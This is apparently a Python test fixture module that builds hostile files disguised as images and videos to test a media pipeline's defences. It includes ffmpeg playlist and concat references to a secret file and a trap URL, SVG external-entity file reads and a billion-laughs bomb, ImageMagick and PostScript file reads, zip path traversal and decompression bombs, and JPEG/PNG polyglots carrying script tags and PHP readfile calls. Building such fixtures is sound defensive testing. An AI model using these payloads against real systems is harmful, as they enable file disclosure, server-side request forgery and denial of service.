"""Texts, archives and programs disguised as an image or a video, some of them together with a real one."""

import gzip
import io
import zipfile

from tests.media.hostile.chunks import after_start, box, png, png_chunk, png_header, segment, zeros
from tests.media.hostile.trap import Trap
from tests.media.sample_images import sample

BRAND = box(b"ftyp", b"isom", bytes(4), b"isomavc1")


def playlists(trap: Trap) -> dict[str, bytes]:
    """Return playlists, whose references ffmpeg would follow to any target."""
    file = f"file://{trap.secret}"
    media = "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n{}\n#EXT-X-ENDLIST\n"
    concat = "ffconcat version 1.0\nfile '{}'\n"
    manifest = f'<MPD type="static"><Period><BaseURL>{trap.url}</BaseURL></Period></MPD>'
    texts = {
        "concat_of_a_file.mp4": concat.format(trap.secret),
        "concat_of_a_server.mp4": concat.format(trap.url),
        "m3u8_of_a_file.mp4": media.format(file),
        "m3u8_of_a_server.mp4": media.format(trap.url),
        "m3u8_of_both.mkv": media.format(f"concat:{trap.url}|{file}"),
        "m3u8_with_a_key.mov": f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{trap.url}"\n#EXTINF:1,\n{file}\n',
        "dash.mp4": manifest,
        "sdp.mp4": f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nm=video 9 RTP/AVP 96\na=control:{trap.url}\n",
        "image_sequence.mp4": f"{trap.secret.parent}/%03d.png\n",
    }
    plain = {name: text.encode() for name, text in texts.items()}
    hidden = media.format(file).encode()
    return plain | {
        "m3u8_behind_a_brand.mp4": BRAND + hidden,
        "m3u8_inside_a_box.mp4": BRAND + box(b"mdat", hidden),
        "concat_inside_a_filler.mov": box(b"free", concat.format(trap.secret).encode()),
    }


def drawings(trap: Trap) -> dict[str, bytes]:
    """Return SVGs, which can read files, send requests, and expand without end."""
    laughs = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
    entity = f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{trap.secret}">]>'
    bodies = {
        "svg_of_a_billion_laughs.svg": f'<!DOCTYPE svg [<!ENTITY l0 "ha">{laughs}]><svg><text>&l9;</text></svg>',
        "svg_with_an_entity.png": f"{entity}<svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>",
        "svg_with_a_link.jpg": f"<svg><image href='{trap.url}' width='9' height='9'/></svg>",
        "svg_with_a_script.svg": "<svg onload='alert(1)'/>",
        "svg_of_vast_size.svg": "<svg width='999999999' height='999999999'/>",
        "magick.png": f"push graphic-context\nimage over 0,0 0,0 'url({trap.url})'\npop graphic-context\n",
        "magick_script.jpg": f"<image><read filename='{trap.secret}'/><write filename='/tmp/out'/></image>",
        "postscript.jpg": f"%!PS\n({trap.secret}) (r) file\n",
        "pdf.png": f"%PDF-1.7\n1 0 obj<</URI({trap.url})>>endobj\n",
        "page.jpg": f"<html><img src='{trap.url}'></html>",
    }
    return {name: body.encode() for name, body in bodies.items()} | {
        "svg_bomb.svgz": gzip.compress(b"<svg>" + b" " * (64 << 20) + b"</svg>", compresslevel=1)
    }


def archives() -> dict[str, bytes]:
    return {
        "zip_in_a_zip.jpg": zip_of(zip_of(zip_of(bytes(10 << 20)))),
        "zip_that_climbs.png": zip_of(b"x", name="../../../../tmp/out"),
        "gzip_bomb.mp4": b"\x1f\x8b\x08" + bytes(7) + zeros(64 << 20),
        "tar.jpg": b"original".ljust(257, b"\0") + b"ustar\0",
        "program.jpg": b"\x7fELF\x02\x01\x01" + bytes(100),
        "script.png": b"#!/bin/sh\ntouch /tmp/out\n",
    }


def zip_of(content: bytes, name: str = "inner.zip") -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return written.getvalue()


def polyglots(trap: Trap) -> dict[str, bytes]:
    """Return files that are valid in two formats: only the image may be read."""
    jpeg = sample("baseline.jpg").read_bytes()
    page = f"--><script src='{trap.url}'></script><?php readfile('{trap.secret}'); ?>".encode()
    text = png_chunk(b"tEXt", b"Comment\0" + page)
    pixel = sample("rgb16.png").read_bytes()
    return {
        "jpeg_that_is_a_page.html": after_start(jpeg, segment(0xFE, page)),
        "jpeg_before_a_zip.jpg": jpeg + zip_of(page),
        "png_that_is_a_page.php": pixel[:33] + text + pixel[33:],
        "png_before_a_playlist.mp4": pixel + b"\n#EXTM3U\n" + trap.url.encode(),
        "jpeg_before_a_video.mp4": jpeg + BRAND + box(b"mdat", bytes(100)),
        "jpeg_called_png.png": jpeg,
        "png_called_mp4.mp4": pixel,
        "heads_only.png": png(png_header(8, 8))[:40],
    }


def fragments() -> dict[str, bytes]:
    return {
        "empty.jpg": b"",
        "one_byte.jpg": b"\xff",
        "zeros.mp4": bytes(4096),
        "noise.bin": bytes((7919 * at * at >> 3) & 0xFF for at in range(4096)),
        "song.mp3": b"ID3\x04" + bytes(200),
        "sound.wav": b"RIFF\x24\0\0\0WAVEfmt " + bytes(24),
        "book.m4b": box(b"ftyp", b"M4B ", bytes(4)),
        "mpeg_stream.ts": (b"\x47\x40\0\x10" + bytes(184)) * 20,
        "brand_without_end.mp4": b"\xff\xff\xff\xffftypisom",
        "brand_of_an_image_without_end.heic": b"\xff\xff\xff\xffftypheic",
    }
